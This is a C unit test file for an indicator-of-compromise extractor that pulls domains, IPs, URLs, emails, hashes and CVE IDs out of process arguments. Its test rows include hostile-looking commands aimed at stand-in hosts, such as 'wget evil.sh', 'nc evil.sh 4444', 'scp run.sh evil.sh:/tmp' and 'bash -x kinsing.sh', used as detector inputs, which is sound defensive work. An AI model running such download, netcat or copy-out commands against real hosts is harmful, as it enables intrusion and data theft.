// SPDX-License-Identifier: GPL-3.0-or-later
/* What an event names: its argv says what a word is, layers count too. */
#include "iocs.h"

#define ARGS_MAX 10

static const struct {
	const char *argv[ARGS_MAX];
	const char *want;
} rows[] = {
	{ { "wget", "evil.sh" }, "dns evil.sh" },
	{ { "/usr/bin/wget", "-q", "evil.sh/run.sh" }, "dns evil.sh" },
	{ { "curl", "-o", "run.sh", "evil.py" }, "dns evil.py" },
	{ { "curl", "--output", "run.sh", "x" }, "" },
	{ { "wget", "-O", "run.sh" }, "" },
	{ { "wget", "-qO", "run.sh" }, "" },
	{ { "bash", "run.sh" }, "" },
	{ { "bash", "-x", "kinsing.sh" }, "" },
	{ { "chmod", "+x", "kinsing.sh" }, "" },
	{ { "./x.sh" }, "" },
	{ { "python3", "setup.py", "install" }, "" },
	{ { "vi", "README.md" }, "" },
	{ { "sudo", "-u", "root", "nc", "evil.sh", "4444" }, "dns evil.sh" },
	{ { "sudo", "nc", "evil.sh", "4444" }, "dns evil.sh" },
	{ { "timeout", "5", "ping", "evil.rs" }, "dns evil.rs" },
	{ { "env", "A=b", "curl", "evil.rs" }, "dns evil.rs" },
	{ { "ssh", "evil.sh", "bash", "run.sh" }, "dns evil.sh" },
	{ { "ssh", "-p", "22", "-i", "key.pub", "evil.sh" }, "dns evil.sh" },
	{ { "ssh", "root@evil.com" }, "dns evil.com" },
	{ { "ssh", "host", "mail", "bob@evil.com" }, "email bob@evil.com" },
	{ { "scp", "run.sh", "evil.sh:/tmp" }, "dns evil.sh" },
	{ { "scp", "run.sh", "bob@evil.sh:/tmp" }, "dns evil.sh" },
	{ { "ssh-keygen", "-C", "bob@evil.com" }, "email bob@evil.com" },
	{ { "dig", "@evil.sh", "x" }, "dns evil.sh" },
	{ { "nmap", "10.0.0.1-20" }, "ipv4 10.0.0.1" },
	{ { "apt-get", "install", "foo=1.2.3.4" }, "" },
	{ { "pip3", "install", "foo", "1.2.3.4" }, "" },
	{ { "pip3", "install", "-i", "http://1.2.3.4/" },
		"url http://1.2.3.4/|ipv4 1.2.3.4" },
	{ { "echo", "5.15.0.91" }, "" },
	{ { "ping", "5.15.0.91" }, "ipv4 5.15.0.91" },
	{ { "docker", "rm",
		  "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852"
		  "b855" },
		"" },
	{ { "echo",
		  "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852"
		  "b855" },
		"sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991"
		"b7852b855" },
	{ { "sh", "-c", "wget evil.sh" }, "dns evil.sh" },
	{ { "sh", "-c", "bash evil.sh" }, "" },
	{ { "wget", "bash evil.sh" }, "" },
	{ { "curl", "http://a.com/x", "-d", "http://a.com/y", "a.com" },
		"url http://a.com/x|dns a.com|url http://a.com/y" },
	{ { "a", "1.1.1.1", "2.2.2.2", "1.1.1.1" },
		"ipv4 1.1.1.1|ipv4 2.2.2.2" },
	{ { "a", "", "::1", ":", "..", "v", "@" }, "ipv6 ::1" },
	{ { "aaaaaaaaaaaaaaaa b.de", "b.de aaaaaaaaaaaaaaaaaaa" }, "dns b.de" },
	{ { "bbbbbbbbbbbbbbbbbb a.de", "b.de aaaaaaaaaaaaaaaaaaa" },
		"dns a.de|dns b.de" },
	/* Every length that is looked at in its own way. */
	{ { "a.de", "ab.de", "abc.de", "abcd.de", "abcde.de" },
		"dns a.de|dns ab.de|dns abc.de|dns abcd.de|dns abcde.de" },
	{ { "CVE-2021-4034", "xx CVE-2021-4035", "xxxxx CVE-2021-4036",
		  "xxxxxx CVE-2021-4037 yyyy", "yyyyyyy CVE-2021-4038" },
		"cve CVE-2021-4034|cve CVE-2021-4035|cve CVE-2021-4036|"
		"cve CVE-2021-4037|cve CVE-2021-4038" },
};

static const struct ioc_conf defaults = { .types = IOC_TYPES_DEFAULT };

static struct bytes run(struct event *ev)
{
	ioc_run(ev, &defaults);
	iocs.len = iocs.n = 0;
	iocs.text[0] = '\0';
	for (size_t i = 0; i < ev->n_iocs; i++)
		iocs_add(ev->iocs[i].type, ev->iocs[i].value);
	return (struct bytes){ iocs.text, iocs.len };
}

static void test_rows(void)
{
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct event *ev = event_create();
		struct bytes argv[ARGS_MAX];
		size_t n = 0;

		check_start("argv %zu", i);
		if (!CHECK(ev))
			return;
		for (; n < ARGS_MAX && rows[i].argv[n]; n++)
			argv[n] = event_copy(ev, bytes_of(rows[i].argv[n]));
		ev->argv = argv;
		ev->argc = n;
		CHECK_Z(run(ev), rows[i].want);
		event_destroy(ev);
	}
}

static void test_layers(void)
{
	struct bytes argv[] = { BYTES("a"), BYTES("evil.com"), { NULL, 0 } };
	struct event_layer layers[] = {
		{ .arg = 1,
			.text = BYTES("evil.com 1.2.3.4"),
			.is_text = true },
		{ .arg = 0, .text = BYTES("5.6.7.8"), .is_text = false },
		{ .arg = 0, .text = BYTES("wget evil.sh"), .is_text = true },
	};
	struct event *ev = event_create();

	check_start("layers");
	if (!CHECK(ev))
		return;
	ev->argv = argv;
	ev->argc = 3;
	ev->layers = layers;
	ev->n_layers = 3;
	if (CHECK_Z(run(ev), "dns evil.com|ipv4 1.2.3.4|dns evil.sh")) {
		CHECK_EQ(ev->iocs[0].arg, 1);
		CHECK(ev->iocs[0].layer == EVENT_IN_ARGV);
		CHECK_EQ(ev->iocs[1].arg, 1);
		CHECK_EQ(ev->iocs[1].layer, 0);
		CHECK_EQ(ev->iocs[2].arg, 0);
		CHECK_EQ(ev->iocs[2].layer, 2);
	}
	event_destroy(ev);
}

static void test_many(void)
{
	struct event *ev = event_create();
	struct bytes argv[2];
	struct str s;

	check_start("the first of many, each once");
	if (!CHECK(ev))
		return;
	str_init(&s, 1 << 20);
	for (int i = 0; i < 3 * IOC_EVENT_MAX; i++)
		str_addf(&s, "10.1.%d.%d ", i / 2 / 256, i / 2 % 256);
	argv[0] = argv[1] = str_bytes(&s);
	ev->argv = argv;
	ev->argc = 2;
	run(ev);
	if (CHECK_EQ(ev->n_iocs, IOC_EVENT_MAX)) {
		CHECK_Z(ev->iocs[0].value, "10.1.0.0");
		CHECK_Z(ev->iocs[255].value, "10.1.0.255");
	}
	str_fini(&s);
	event_destroy(ev);
}

int main(void)
{
	check.module = "ioc_argv";
	test_rows();
	test_layers();
	test_many();
	return check_end();
}
